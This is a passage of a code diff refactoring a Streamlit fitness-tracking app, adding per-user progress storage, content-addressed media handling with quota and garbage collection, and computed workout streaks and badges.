@@ -12,11 +12,12 @@
 
 import streamlit as st
 from textwrap import dedent
-import re
+import csv
 from datetime import date, datetime, timedelta
-import json
 import os
+import tempfile
 from typing import Dict, Optional, List
+from types import MappingProxyType
 import pandas as pd
 import numpy as np
 
@@ -36,11 +37,37 @@ ADMIN_MODE = _get_bool("ADMIN_MODE", False)
 READ_ONLY = _get_bool("READ_ONLY", False)
 ADMIN_UI = ADMIN_MODE and not READ_ONLY
 
+from media import (
+    read_manifest, write_manifest, thaw, lookup_video, add_to_video_index, remove_from_video_index,
+    resident_media, store_blob, blob_sha, release_media, UploadTooLarge, faststart, FASTSTART_EXTENSIONS,
+    make_poster, blob_for_ref, disk_usage, over_quota,
+)
+from media_gc import MediaLayout, fsck
+from images import generate_variants, image_variant, best_width, submit_variants, ready_variant
+from progress_store import ENTRY_LISTS, cached_progress, generation, list_state, save_progress, migrate_legacy
+from streaks import day_number, day_numbers, streak_stats, record_activity, forget as forget_streaks
+from catalog import Catalog, Schedule, exercise_id as get_exercise_id
+from workout_state import WorkoutSets
+from badges import (
+    new_counters, record_checkin, record_sets, set_longest_streak, evaluate as evaluate_badges, all_metrics,
+)
+
+# Range-capable media sidecar (tornado ships with streamlit)
+try:
+    from media_server import start_media_server, media_server_alive, media_url
+
+    MEDIA_SERVER_AVAILABLE = True
+except ImportError:
+    MEDIA_SERVER_AVAILABLE = False
+
 # Import storage functions with error handling
 try:
     from storage import (
         init_storage, get_profile, save_profile, get_settings, save_settings,
-        save_daily_log, get_logs, delete_all_user_data, export_logs_csv,
+        save_daily_log, get_logs, delete_all_user_data, export_logs_csv, export_logs,
+        append_workout_sets, import_workout_log_csv, get_workout_log,
+        get_daily_log_photo, get_photo_page, get_photo_on_or_before, get_first_photo, get_active_days,
+        PHOTO_PAGE_SIZE,
     )
 
     STORAGE_AVAILABLE = True
@@ -73,7 +100,7 @@ except ImportError:
         pass
 
 
-    def get_logs(user_id, start, end):
+    def get_logs(user_id, start, end, columns=None):
         return pd.DataFrame()
 
 
@@ -84,6 +111,42 @@ except ImportError:
     def export_logs_csv(user_id):
         return "export.csv"
 
+
+    def export_logs(user_id, path=None, fmt="csv"):
+        return path or "export.csv"
+
+
+    def append_workout_sets(rows, user_id="default"):
+        return 0
+
+
+    def import_workout_log_csv(path):
+        return 0
+
+
+    def get_workout_log(date, exercise_id, user_id="default"):
+        return pd.DataFrame()
+
+
+    def get_daily_log_photo(user_id, date):
+        return None
+
+
+    def get_photo_page(user_id, before=None, limit=12):
+        return []
+
+
+    def get_photo_on_or_before(user_id, date):
+        return None
+
+
+    def get_first_photo(user_id):
+        return None
+
+
+    def get_active_days(user_id):
+        return np.array([], dtype=np.int64)
+
 # ============================================================================
 # CONFIGURATION & CONSTANTS
 # ============================================================================
@@ -95,51 +158,70 @@ st.set_page_config(
 )
 
 MAX_VIDEO_MB = 50
+MAX_IMAGE_MB = 15
+# Total bytes allowed under uploaded_content/ (unset = no quota); checked against the usage counters
+MEDIA_QUOTA_BYTES = (
+    int(float(os.environ["MEDIA_QUOTA_MB"]) * 1024 * 1024) if os.environ.get("MEDIA_QUOTA_MB") else None
+)
+MEDIA_GC_BATCH = 200
+# Exercises whose set values a session keeps in memory for the active workout date
+WORKOUT_SETS_MAX_EXERCISES = 40
+# The media sidecar only runs when MEDIA_BASE_URL (the address browsers use to
+# reach it, e.g. behind the same reverse proxy as the app) is set. It binds to
+# MEDIA_SERVER_ADDRESS, loopback unless opened up explicitly; MEDIA_SERVER_PORT=0 disables it.
+MEDIA_BASE_URL = os.environ.get("MEDIA_BASE_URL") or None
+MEDIA_SERVER_ADDRESS = os.environ.get("MEDIA_SERVER_ADDRESS", "127.0.0.1")
+MEDIA_SERVER_PORT = int(os.environ.get("MEDIA_SERVER_PORT", "8502"))
 UPLOAD_ROOT = "uploaded_content"
 MAIN_MEDIA_DIR = os.path.join(UPLOAD_ROOT, "main_media")
 EXERCISE_VIDEOS_DIR = os.path.join(UPLOAD_ROOT, "exercise_videos")
 PROGRESS_DIR = os.path.join(UPLOAD_ROOT, "progress_photos")
+BLOBS_DIR = os.path.join(UPLOAD_ROOT, "blobs")
+POSTERS_DIR = os.path.join(UPLOAD_ROOT, "posters")
+VARIANTS_DIR = os.path.join(UPLOAD_ROOT, "variants")
+COACH_PHOTO_REF = "image:coach_photo"
+LEGACY_COACH_PHOTO = "coach_photo.jpg"
+PHOTO_THUMB_WIDTH = 250
+PHOTO_FULL_WIDTH = 1600
 USER_DATA_DIR = "user_data"
 VIDEOS_DIR = "videos"
 VIDEOS_JSON = "videos.json"
 WORKOUT_LOG_CSV = "workout_log.csv"
-USER_PROGRESS_JSON = os.path.join(USER_DATA_DIR, "user_progress.json")
+USER_PROGRESS_JSON = os.path.join(USER_DATA_DIR, "user_progress.json")  # legacy shared file
+USER_PROGRESS_DIR = os.path.join(USER_DATA_DIR, "progress")
+PROGRESS_DOC_KEYS = ("prefs", "ai_tuning", "badges_earned", "badge_counters", "reminder_prefs", "display_name")
 VIDEOS_DB_JSON = os.path.join(EXERCISE_VIDEOS_DIR, "videos_db.json")
+# Everything the media GC cross-references, from the paths above
+MEDIA_LAYOUT = MediaLayout(
+    media_root=UPLOAD_ROOT,
+    videos_json=VIDEOS_JSON,
+    videos_db_json=VIDEOS_DB_JSON,
+    videos_dir=VIDEOS_DIR,
+    image_sources=(LEGACY_COACH_PHOTO, MAIN_MEDIA_DIR, "assets"),
+)
+EXPORT_MIME_TYPES = {
+    "csv": "text/csv",
+    "csv.gz": "application/gzip",
+    "parquet": "application/vnd.apache.parquet",
+}
 
-# Badge definitions
+# Badge definitions - "metrics" lists what a rule reads, so it is only re-checked when one of them changes
 BADGES = [
-    {"key": "first_week", "label": "✅ 7-Day Starter", "rule": lambda s: s.get("longest", 0) >= 7},
-    {"key": "hydration_pro", "label": "💧 Hydration Pro", "rule": lambda s: s.get("hydration7", False)},
-    {"key": "glute_grind", "label": "🍑 Glute Grind", "rule": lambda s: s.get("glute_sets_2wk", 0) >= 12},
-    {"key": "consistency", "label": "🔥 21-Day Habit", "rule": lambda s: s.get("longest", 0) >= 21},
-    {"key": "early_bird", "label": "🌅 Early Bird", "rule": lambda s: s.get("morning_workouts", 0) >= 5},
+    {"key": "first_week", "label": "✅ 7-Day Starter", "metrics": ("longest",),
+     "rule": lambda s: s.get("longest", 0) >= 7},
+    {"key": "hydration_pro", "label": "💧 Hydration Pro", "metrics": ("hydration7",),
+     "rule": lambda s: s.get("hydration7", False)},
+    {"key": "glute_grind", "label": "🍑 Glute Grind", "metrics": ("glute_sets_2wk",),
+     "rule": lambda s: s.get("glute_sets_2wk", 0) >= 12},
+    {"key": "consistency", "label": "🔥 21-Day Habit", "metrics": ("longest",),
+     "rule": lambda s: s.get("longest", 0) >= 21},
+    {"key": "early_bird", "label": "🌅 Early Bird", "metrics": ("morning_workouts",),
+     "rule": lambda s: s.get("morning_workouts", 0) >= 5},
 ]
 
 # ============================================================================
 # WORKOUT DATA
 # ============================================================================
-PROGRAM_SPLIT = {
-    "Level 1": {
-        "Monday": "BOOTY",
-        "Tuesday": "ABS/CORE & CARDIO",
-        "Wednesday": "REST",
-        "Thursday": "LEGS & BOOTY",
-        "Friday": "ABS/CORE ONLY (you can do at home)",
-        "Saturday": "LIGHT SHOULDERS & BACK",
-        "Sunday": "REST"
-    },
-        "Level 2": {
-        "Monday": "BOOTY A",
-        "Tuesday": "LIGHT SHOULDERS & BACK",
-        "Wednesday": "ABS/CORE & CARDIO",
-        "Thursday": "BOOTY B",
-        "Friday": "SHOULDERS & ABS/CORE",
-        "Saturday": "LEGS & BOOTY",
-        "Sunday": "REST"
-    }
-}
-
-
 # Exercise definitions
 def warmup_item():
     return {"name": "Booty/Leg Activation", "sets": "—", "reps": "5 min", "category": "Warm-up"}
@@ -239,7 +321,7 @@ def ensure_dirs():
     """Create necessary directories if they don't exist"""
     dirs = [
         UPLOAD_ROOT, MAIN_MEDIA_DIR, EXERCISE_VIDEOS_DIR,
-        PROGRESS_DIR, USER_DATA_DIR, VIDEOS_DIR
+        PROGRESS_DIR, USER_DATA_DIR, VIDEOS_DIR, BLOBS_DIR, POSTERS_DIR, VARIANTS_DIR
     ]
     for d in dirs:
         os.makedirs(d, exist_ok=True)
@@ -250,6 +332,15 @@ def init_session_state():
     if 'initialized' not in st.session_state:
         st.session_state.initialized = True
         ensure_dirs()
+        init_workout_log()
+        try:
+            get_schedule()
+        except Exception as e:
+            st.error(f"Workout schedule is misconfigured: {str(e)}")
+        try:
+            migrate_legacy(USER_PROGRESS_JSON, "default", USER_PROGRESS_DIR)
+        except Exception:
+            pass
 
     defaults = {
         'page': 'home',
@@ -260,7 +351,7 @@ def init_session_state():
         'selected_workout_day': None,
         'weight_entries': [],
         'meal_plan_option': 'Option A: Omnivore',
-        'workout_sets': {},
+        'workout_sets': None,
         'coach_history': [],  # MUST be initialized
         'display_name': '',
         'community_chat': [],
@@ -280,7 +371,7 @@ def init_session_state():
             "diet": "omnivore",
             "protein_target_g": 120
         },
-        'badges_earned': [],
+        'badges_earned': {},
         'reminder_prefs': {
             "enabled": False,
             "days": [],
@@ -398,35 +489,59 @@ def load_styles():
 # ============================================================================
 # NEW: USER PROGRESS PERSISTENCE
 # ============================================================================
+def current_user_id():
+    """Key of this session's progress store"""
+    return st.session_state.get("user_id", "default")
+
+
 def load_user_progress():
-    """Load user progress data from JSON"""
+    """Load this user's saved progress into session state.
+
+    Runs on every rerun but only hydrates once per session, and again when
+    another session has saved this user's progress since.
+    """
     try:
-        if os.path.exists(USER_PROGRESS_JSON):
-            with open(USER_PROGRESS_JSON, 'r') as f:
-                data = json.load(f)
-                # Merge with session state
-                for key in ['prefs', 'ai_tuning', 'badges_earned', 'reminder_prefs']:
-                    if key in data:
-                        st.session_state[key] = data[key]
+        user_id = current_user_id()
+        if st.session_state.get("_progress_generation") == (user_id, generation(user_id)):
+            return
+        if st.session_state.get("_progress_dirty"):
+            return  # an unsaved change would be overwritten; retry after the flush
+        gen, data = cached_progress(user_id, USER_PROGRESS_DIR)
+        for key in PROGRESS_DOC_KEYS:
+            if key in data:
+                st.session_state[key] = data[key]
+        for name in ENTRY_LISTS:
+            st.session_state[name] = data[name]
+        st.session_state["_progress_synced"] = {name: list_state(data[name]) for name in ENTRY_LISTS}
+        st.session_state["_progress_generation"] = (user_id, gen)
     except Exception as e:
         # Silently fail and use defaults
         pass
 
 
 def save_user_progress():
-    """Save user progress data to JSON"""
+    """Mark user progress for saving; flush_user_progress writes it once at the end of the run"""
+    st.session_state["_progress_dirty"] = True
+
+
+def flush_user_progress():
+    """Write this run's progress changes in one go"""
+    if not st.session_state.get("_progress_dirty"):
+        return
     try:
-        data = {
-            "prefs": st.session_state.get("prefs", {}),
-            "ai_tuning": st.session_state.get("ai_tuning", {}),
-            "badges_earned": st.session_state.get("badges_earned", []),
-            "reminder_prefs": st.session_state.get("reminder_prefs", {}),
-            "display_name": st.session_state.get("display_name", ""),
-            "weight_entries": st.session_state.get("weight_entries", []),
-            "progress_entries": st.session_state.get("progress_entries", []),
-        }
-        with open(USER_PROGRESS_JSON, 'w') as f:
-            json.dump(data, f, indent=2)
+        user_id = current_user_id()
+        before = generation(user_id)
+        st.session_state["_progress_synced"] = save_progress(
+            user_id,
+            {key: st.session_state.get(key) for key in PROGRESS_DOC_KEYS},
+            {name: st.session_state.get(name, []) for name in ENTRY_LISTS},
+            st.session_state.get("_progress_synced"),
+            USER_PROGRESS_DIR,
+        )
+        st.session_state["_progress_dirty"] = False
+        # Our own save doesn't need a reload; one that raced another session's does
+        if st.session_state.get("_progress_generation") == (user_id, before):
+            st.session_state["_progress_generation"] = (user_id, before + 1)
     except Exception as e:
         # Silently fail
         pass
@@ -557,67 +672,68 @@ def render_personalization_card():
 # ============================================================================
 # NEW: STREAK & BADGE FUNCTIONS
 # ============================================================================
-def compute_streaks(entries):
-    """Compute workout streaks from entries"""
-    if not entries:
-        return {"current": 0, "longest": 0, "last_date": None}
-
-    # Sort entries by date
-    sorted_entries = sorted(entries, key=lambda x: x.get("date", ""))
+def load_active_days(user_id="default"):
+    """Distinct active day numbers - completed sets, daily logs and weight entries"""
+    days = [day_numbers(e.get("date") for e in st.session_state.get("weight_entries", []))]
+    try:
+        if STORAGE_AVAILABLE:
+            init_storage()
+            days.append(get_active_days(user_id))
+        elif os.path.exists(WORKOUT_LOG_CSV):
+            df = pd.read_csv(WORKOUT_LOG_CSV, usecols=["date", "completed"])
+            done = df["completed"].astype(str).str.lower().isin(["true", "1"])
+            days.append(day_numbers(df.loc[done, "date"]))
+    except Exception as e:
+        st.error(f"Error loading activity history: {str(e)}")
+    return np.unique(np.concatenate(days))
 
-    if not sorted_entries:
-        return {"current": 0, "longest": 0, "last_date": None}
 
-    # Simple streak calculation (mock for now)
-    current_streak = min(len(sorted_entries), 7)  # Mock current streak
-    longest_streak = min(len(sorted_entries), 21)  # Mock longest streak
-    last_date = sorted_entries[-1].get("date") if sorted_entries else None
+def compute_streaks(user_id="default"):
+    """Compute workout streaks - history is read once per process, then updated as days are logged"""
+    return streak_stats(user_id, lambda: load_active_days(user_id))
 
-    # Check hydration streak - FIXED with safe access
-    hydration7 = False
-    weight_entries = st.session_state.get("weight_entries", [])
-    if weight_entries:
-        recent = weight_entries[-7:]
-        if len(recent) >= 7:
-            hydration7 = all(e.get("water", 0) >= 2 for e in recent)
 
-    # Count glute sets in last 2 weeks - FIXED with safe access
-    glute_sets_2wk = 0
-    completed_exercises = st.session_state.get("completed_exercises", [])
-    if completed_exercises:
-        glute_sets_2wk = sum(
-            1 for e in completed_exercises if isinstance(e, str) and ("hip" in e.lower() or "thrust" in e.lower()))
-
-    return {
-        "current": current_streak,
-        "longest": longest_streak,
-        "last_date": last_date,
-        "hydration7": hydration7,
-        "glute_sets_2wk": glute_sets_2wk
-    }
+def earned_badges():
+    """Earned badges as {key: earned_at} - older saves stored a plain list of keys"""
+    earned = st.session_state.get("badges_earned") or {}
+    if not isinstance(earned, dict):
+        earned = {key: None for key in earned}
+        st.session_state.badges_earned = earned
+    return earned
 
 
-def check_badges(stats):
-    """Check which badges are earned based on stats"""
-    earned = []
-    for badge in BADGES:
-        try:
-            if badge["rule"](stats):
-                earned.append(badge["key"])
-        except:
-            pass
-    return earned
+def badge_counters():
+    """Rolling badge counters, seeded once from the recent check-ins when missing"""
+    counters = st.session_state.get("badge_counters")
+    if not counters:
+        counters = new_counters()
+        for entry in st.session_state.get("weight_entries", [])[-7:]:
+            if entry.get("date"):
+                record_checkin(counters, day_number(entry["date"]), entry.get("water", 0))
+        st.session_state.badge_counters = counters
+        record_badge_activity(all_metrics(BADGES))
+    return counters
+
+
+def record_badge_activity(changed, day=None):
+    """Re-check only the badges that depend on the changed metrics; new ones are saved with a timestamp"""
+    counters = badge_counters()
+    changed = set(changed) | set_longest_streak(counters, compute_streaks()["longest"])
+    today = day_number(date.today())
+    new = evaluate_badges(counters, earned_badges(), BADGES, changed, today if day is None else day)
+    save_user_progress()
+    labels = {badge["key"]: badge["label"] for badge in BADGES}
+    for key in new:
+        st.toast(f"Badge earned: {labels[key]}")
+    return new
 
 
 def render_streaks_tab():
     """Render the streaks and badges tab"""
     st.markdown("## ⭐ Streaks & Badges")
 
-    # Calculate streaks - FIXED with safe access
-    progress_entries = st.session_state.get("progress_entries", [])
-    weight_entries = st.session_state.get("weight_entries", [])
-    all_entries = progress_entries + weight_entries
-    stats = compute_streaks(all_entries)
+    # Calculate streaks
+    stats = compute_streaks()
 
     # Display streak counters
     col1, col2, col3 = st.columns(3)
@@ -634,15 +750,19 @@ def render_streaks_tab():
     # Display badges
     st.markdown("### 🏅 Your Badges")
 
-    earned_badges = check_badges(stats)
-    st.session_state.badges_earned = earned_badges
+    # Streak badges can come due without a new event (e.g. the first render after an upgrade)
+    if stats["longest"] > badge_counters().get("longest", 0):
+        record_badge_activity(())
+    earned = earned_badges()
 
     # Display earned badges
     badge_cols = st.columns(4)
     for i, badge in enumerate(BADGES):
         with badge_cols[i % 4]:
-            if badge["key"] in earned_badges:
+            if badge["key"] in earned:
                 st.success(badge["label"])
+                if earned[badge["key"]]:
+                    st.caption(f"Earned {earned[badge['key']][:10]}")
             else:
                 st.info(f"🔒 {badge['label'].split(' ', 1)[1] if ' ' in badge['label'] else badge['label']}")
 
@@ -976,21 +1096,23 @@ def render_accessibility_settings():
 # NEW: RICH VIDEO LIBRARY FUNCTIONS
 # ============================================================================
 def load_videos_db():
-    """Load video library database"""
+    """Load video library database (read-only snapshot)"""
     try:
-        if os.path.exists(VIDEOS_DB_JSON):
-            with open(VIDEOS_DB_JSON, 'r') as f:
-                return json.load(f)
+        return read_manifest(VIDEOS_DB_JSON, ())
     except:
         pass
-    return []
+    return ()
+
+
+def edit_videos_db():
+    """Mutable copy of the video library database for read-modify-write"""
+    return thaw(load_videos_db())
 
 
 def save_videos_db(db):
     """Save video library database"""
     try:
-        with open(VIDEOS_DB_JSON, 'w') as f:
-            json.dump(db, f, indent=2)
+        write_manifest(VIDEOS_DB_JSON, db)
         return True
     except:
         return False
@@ -998,7 +1120,7 @@ def save_videos_db(db):
 
 def add_video_to_library(exercise_key, path, uploader="user"):
     """Add a video to the library"""
-    db = load_videos_db()
+    db = edit_videos_db()
 
     # Find or create exercise entry
     exercise_entry = None
@@ -1014,6 +1136,10 @@ def add_video_to_library(exercise_key, path, uploader="user"):
         }
         db.append(exercise_entry)
 
+    # Identical re-uploads resolve to the same blob - keep a single entry
+    if any(video["path"] == path for video in exercise_entry["files"]):
+        return
+
     # Add video
     exercise_entry["files"].append({
         "path": path,
@@ -1029,7 +1155,7 @@ def add_video_to_library(exercise_key, path, uploader="user"):
 
 def rate_video(exercise_key, path, delta):
     """Rate a video in the library"""
-    db = load_videos_db()
+    db = edit_videos_db()
 
     for entry in db:
         if entry["exercise_key"] == exercise_key:
@@ -1044,6 +1170,19 @@ def rate_video(exercise_key, path, delta):
     return False
 
 
+def flag_video(exercise_key, path):
+    """Flag a library video for review"""
+    db = edit_videos_db()
+
+    for entry in db:
+        if entry["exercise_key"] == exercise_key:
+            for video in entry["files"]:
+                if video["path"] == path:
+                    video["flagged"] = True
+                    return save_videos_db(db)
+    return False
+
+
 def render_video_library(exercise_name, exercise_key):
     """Render video library for an exercise"""
     with st.expander("📹 Video Library"):
@@ -1053,11 +1192,11 @@ def render_video_library(exercise_name, exercise_key):
         videos = []
         for entry in db:
             if entry["exercise_key"] == exercise_key:
-                videos = entry.get("files", [])
+                videos = entry.get("files", ())
                 break
 
         # Sort by rating
-        videos.sort(key=lambda x: x.get("rating", 0), reverse=True)
+        videos = sorted(videos, key=lambda x: x.get("rating", 0), reverse=True)
 
         # Show top 3 videos
         if videos:
@@ -1067,7 +1206,7 @@ def render_video_library(exercise_name, exercise_key):
 
                 with col1:
                     if os.path.exists(video["path"]):
-                        st.video(video["path"])
+                        show_video_poster(video["path"], f"library_{exercise_key}_{i}")
                     else:
                         st.warning("Video not found")
 
@@ -1079,15 +1218,14 @@ def render_video_library(exercise_name, exercise_key):
                 with col3:
                     if st.button("👍", key=f"like_{exercise_key}_{i}"):
                         rate_video(exercise_key, video["path"], 5)
-                        st.rerun()
+                        st.rerun(scope="fragment")
 
                     if st.button("👎", key=f"dislike_{exercise_key}_{i}"):
                         rate_video(exercise_key, video["path"], 1)
-                        st.rerun()
+                        st.rerun(scope="fragment")
 
                     if st.button("🚩 Report", key=f"report_{exercise_key}_{i}"):
-                        video["flagged"] = True
-                        save_videos_db(db)
+                        flag_video(exercise_key, video["path"])
                         st.warning("Video reported")
         else:
             st.info("No videos in library yet. Upload the first one!")
@@ -1101,18 +1239,13 @@ def render_video_library(exercise_name, exercise_key):
         )
 
         if uploaded and st.button("Add to Library", key=f"add_library_{exercise_key}"):
-            # Check file size
-            if uploaded.size / (1024 * 1024) > MAX_VIDEO_MB:
-                st.error(f"File exceeds {MAX_VIDEO_MB} MB limit!")
-            else:
-                # Save video
-                timestamp = datetime.now().strftime('%Y%m%d_%H%M%S')
-                filename = f"{exercise_key}_lib_{timestamp}_{uploaded.name}"
-                filepath = os.path.join(EXERCISE_VIDEOS_DIR, filename)
-
-                with open(filepath, 'wb') as f:
-                    f.write(uploaded.getbuffer())
+            try:
+                filepath = save_uploaded_video(uploaded, f"library:{exercise_key}")
+            except Exception as e:
+                st.error(str(e))
+                filepath = None
 
+            if filepath:
                 add_video_to_library(
                     exercise_key,
                     filepath,
@@ -1120,21 +1253,19 @@ def render_video_library(exercise_name, exercise_key):
                 )
 
                 st.success("Video added to library!")
-                st.rerun()
+                st.rerun(scope="fragment")
 
 
 # ============================================================================
 # EXISTING VIDEO MANAGEMENT FUNCTIONS (UNCHANGED)
 # ============================================================================
 def load_videos_json():
-    """Load video mappings from videos.json"""
+    """Load video mappings from videos.json (read-only snapshot)"""
     try:
-        if os.path.exists(VIDEOS_JSON):
-            with open(VIDEOS_JSON, 'r') as f:
-                return json.load(f)
+        return read_manifest(VIDEOS_JSON, MappingProxyType({}))
     except Exception as e:
         st.error(f"Error loading videos: {str(e)}")
-    return {}
+    return MappingProxyType({})
 
 
 def save_videos_json(videos_dict):
@@ -1143,17 +1274,33 @@ def save_videos_json(videos_dict):
         st.warning("Uploads are disabled.")
         return False
     try:
-        with open(VIDEOS_JSON, 'w') as f:
-            json.dump(videos_dict, f, indent=2)
+        write_manifest(VIDEOS_JSON, videos_dict)
         return True
     except Exception as e:
         st.error(f"Error saving videos: {str(e)}")
         return False
 
 
-def get_exercise_id(exercise_name):
-    """Generate a stable exercise ID from name"""
-    return re.sub(r'[^a-z0-9]+', '_', exercise_name.lower()).strip('_')
+def set_video_source(key, source):
+    """Point a videos.json entry at a new URL or file"""
+    videos = dict(load_videos_json())
+    previous = videos.get(key)
+    videos[key] = source
+    if not save_videos_json(videos):
+        return False
+    if previous != source:
+        release_video(previous, f"videos_json:{key}")
+    return True
+
+
+def remove_video_source(key):
+    """Remove a videos.json entry"""
+    videos = dict(load_videos_json())
+    previous = videos.pop(key, None)
+    if not save_videos_json(videos):
+        return False
+    release_video(previous, f"videos_json:{key}")
+    return True
 
 
 def render_admin_intro_video_manager():
@@ -1175,8 +1322,7 @@ def render_admin_intro_video_manager():
             key="intro_url_simple"
         )
         if st.button("Save Video URL", key="save_intro_url_simple"):
-            videos["__intro__"] = intro_url
-            if save_videos_json(videos):
+            if set_video_source("__intro__", intro_url):
                 st.success("Intro video URL saved!")
                 st.rerun()
     else:
@@ -1187,11 +1333,8 @@ def render_admin_intro_video_manager():
         )
         if uploaded_intro and st.button("Save Intro Video", key="save_intro_file_simple"):
             try:
-                video_path = os.path.join(VIDEOS_DIR, f"intro_{datetime.now().strftime('%Y%m%d_%H%M%S')}.mp4")
-                with open(video_path, 'wb') as f:
-                    f.write(uploaded_intro.getbuffer())
-                videos["__intro__"] = video_path
-                if save_videos_json(videos):
+                video_path = save_uploaded_video(uploaded_intro, "videos_json:__intro__")
+                if set_video_source("__intro__", video_path):
                     st.success("Intro video uploaded!")
                     st.rerun()
             except Exception as e:
@@ -1199,8 +1342,7 @@ def render_admin_intro_video_manager():
 
     if "__intro__" in videos:
         if st.button("Remove Intro Video", key="remove_intro_simple"):
-            del videos["__intro__"]
-            save_videos_json(videos)
+            remove_video_source("__intro__")
             st.success("Intro video removed")
             st.rerun()
 
@@ -1233,8 +1375,7 @@ def render_admin_video_manager():
                     key="intro_url_input"
                 )
                 if st.button("Save Intro URL", key="save_intro_url"):
-                    videos["__intro__"] = intro_url
-                    if save_videos_json(videos):
+                    if set_video_source("__intro__", intro_url):
                         st.success("Intro video URL saved!")
                         st.rerun()
             else:
@@ -1245,11 +1386,8 @@ def render_admin_video_manager():
                 )
                 if uploaded_intro and st.button("Save Intro File", key="save_intro_file"):
                     try:
-                        video_path = os.path.join(VIDEOS_DIR, f"intro_{datetime.now().strftime('%Y%m%d_%H%M%S')}.mp4")
-                        with open(video_path, 'wb') as f:
-                            f.write(uploaded_intro.getbuffer())
-                        videos["__intro__"] = video_path
-                        if save_videos_json(videos):
+                        video_path = save_uploaded_video(uploaded_intro, "videos_json:__intro__")
+                        if set_video_source("__intro__", video_path):
                             st.success("Intro video uploaded!")
                             st.rerun()
                     except Exception as e:
@@ -1259,8 +1397,7 @@ def render_admin_video_manager():
             if "__intro__" in videos:
                 st.info(f"Current: {videos['__intro__'][:50]}...")
                 if st.button("Remove Intro Video", key="remove_intro"):
-                    del videos["__intro__"]
-                    save_videos_json(videos)
+                    remove_video_source("__intro__")
                     st.rerun()
 
         st.markdown("---")
@@ -1295,8 +1432,7 @@ def render_admin_video_manager():
                         key=f"url_{exercise_id}"
                     )
                     if st.button("Save URL", key=f"save_url_{exercise_id}"):
-                        videos[exercise_id] = video_url
-                        if save_videos_json(videos):
+                        if set_video_source(exercise_id, video_url):
                             st.success(f"Video URL saved for {exercise_name}!")
                             st.rerun()
                 else:
@@ -1307,12 +1443,8 @@ def render_admin_video_manager():
                     )
                     if uploaded_file and st.button("Save File", key=f"save_file_{exercise_id}"):
                         try:
-                            video_path = os.path.join(VIDEOS_DIR,
-                                                      f"{exercise_id}_{datetime.now().strftime('%Y%m%d_%H%M%S')}.mp4")
-                            with open(video_path, 'wb') as f:
-                                f.write(uploaded_file.getbuffer())
-                            videos[exercise_id] = video_path
-                            if save_videos_json(videos):
+                            video_path = save_uploaded_video(uploaded_file, f"videos_json:{exercise_id}")
+                            if set_video_source(exercise_id, video_path):
                                 st.success(f"Video uploaded for {exercise_name}!")
                                 st.rerun()
                         except Exception as e:
@@ -1322,113 +1454,271 @@ def render_admin_video_manager():
                 if exercise_id in videos:
                     st.info(f"Current: {videos[exercise_id][:50]}...")
                     if st.button("Remove Video", key=f"remove_{exercise_id}"):
-                        del videos[exercise_id]
-                        save_videos_json(videos)
+                        remove_video_source(exercise_id)
                         st.rerun()
 
+        render_media_storage_panel()
 
-def get_all_exercises():
-    """Get list of all unique exercise names"""
-    exercises = set()
 
-    # Add all exercises from workout data
-    for ex in BOOTY_L1 + ABS_CORE_ONLY:
-        if ex.get("name") and ex["name"] != "Repeat 2x total":
-            exercises.add(ex["name"])
+def render_media_storage_panel():
+    """Disk usage from the media counters, plus the integrity check / orphan GC"""
+    st.markdown("#### Media Storage")
+    usage = disk_usage(UPLOAD_ROOT)
+    cols = st.columns(4)
+    for col, area in zip(cols, ("blobs", "videos", "posters", "variants")):
+        col.metric(area.title(), f"{usage.get(area, 0) / (1024 * 1024):.1f} MB")
+    if MEDIA_QUOTA_BYTES is not None:
+        st.caption(
+            f"Quota: {sum(usage.values()) / (1024 * 1024):.0f} of {MEDIA_QUOTA_BYTES / (1024 * 1024):.0f} MB used"
+        )
+
+    col_check, col_reclaim = st.columns(2)
+    with col_check:
+        if st.button("🔍 Check integrity", key="media_fsck"):
+            try:
+                report = fsck(MEDIA_LAYOUT)
+                if report["findings"]:
+                    st.dataframe(
+                        pd.DataFrame(report["findings"])[["kind", "source", "key", "path"]],
+                        use_container_width=True, hide_index=True
+                    )
+                else:
+                    st.success("No orphans or dangling references found.")
+            except Exception as e:
+                st.error(f"Integrity check failed: {str(e)}")
+    with col_reclaim:
+        if st.button("🧹 Reclaim orphans", key="media_gc"):
+            try:
+                report = fsck(MEDIA_LAYOUT, reclaim=True, limit=MEDIA_GC_BATCH)
+                st.success(
+                    f"Reclaimed {len(report['reclaimed'])} items "
+                    f"({report['reclaimed_bytes'] / (1024 * 1024):.1f} MB)"
+                    + (f", {report['pending']} left for the next run" if report["pending"] else "")
+                )
+            except Exception as e:
+                st.error(f"Reclaim failed: {str(e)}")
 
-    # Add more exercises
-    basic_exercises = [
-        "Hip Thrust", "RDLs (Romanian Deadlifts)", "Kickbacks", "Hyperextensions",
-        "Bulgarian Split Squats", "Leg Press", "Leg Curl", "Lat Pulldown Wide Grip"
-    ]
-    exercises.update(basic_exercises)
 
-    return sorted(list(exercises))
+def check_media_quota(uploaded_file):
+    """Refuse an upload that would push uploaded_content/ past MEDIA_QUOTA_MB"""
+    if over_quota(getattr(uploaded_file, "size", 0) or 0, MEDIA_QUOTA_BYTES, UPLOAD_ROOT):
+        raise UploadTooLarge("Media storage quota reached. Ask the admin to reclaim space.")
+
+
+@st.cache_resource(show_spinner=False)
+def get_catalog():
+    """Compiled exercise catalog - built once per process and shared by every session"""
+    return Catalog(WORKOUTS, EXERCISE_ALTERNATIVES, extra_names=ADMIN_EXTRA_EXERCISES, skip_names=NON_EXERCISES)
+
+
+@st.cache_resource(show_spinner=False)
+def get_schedule():
+    """(level, weekday) -> day plan index - raises ScheduleError if a PROGRAM_SPLIT slot doesn't resolve"""
+    return Schedule(PROGRAM_SPLIT, WORKOUT_FOR_LABEL, get_catalog())
+
+
+def get_all_exercises():
+    """Get list of all unique exercise names"""
+    return list(get_catalog().names)
 
 
 # ============================================================================
 # WORKOUT LOG FUNCTIONS (NEW)
 # ============================================================================
-def save_workout_log(date_str, exercise_id, exercise_name, set_num, reps, weight, completed):
-    """Save workout data to CSV"""
+def init_workout_log():
+    """Set up the workout log store and migrate a legacy workout_log.csv once"""
+    if not STORAGE_AVAILABLE:
+        return
     try:
-        new_entry = pd.DataFrame([{
-            'date': date_str,
-            'exercise_id': exercise_id,
-            'exercise': exercise_name,
-            'set': set_num,
-            'reps': reps,
-            'weight': weight,
-            'completed': completed
-        }])
+        init_storage()
+        import_workout_log_csv(WORKOUT_LOG_CSV)
+    except Exception as e:
+        st.error(f"Error migrating workout log: {str(e)}")
 
-        if os.path.exists(WORKOUT_LOG_CSV):
-            existing_df = pd.read_csv(WORKOUT_LOG_CSV)
-            updated_df = pd.concat([existing_df, new_entry], ignore_index=True)
-        else:
-            updated_df = new_entry
 
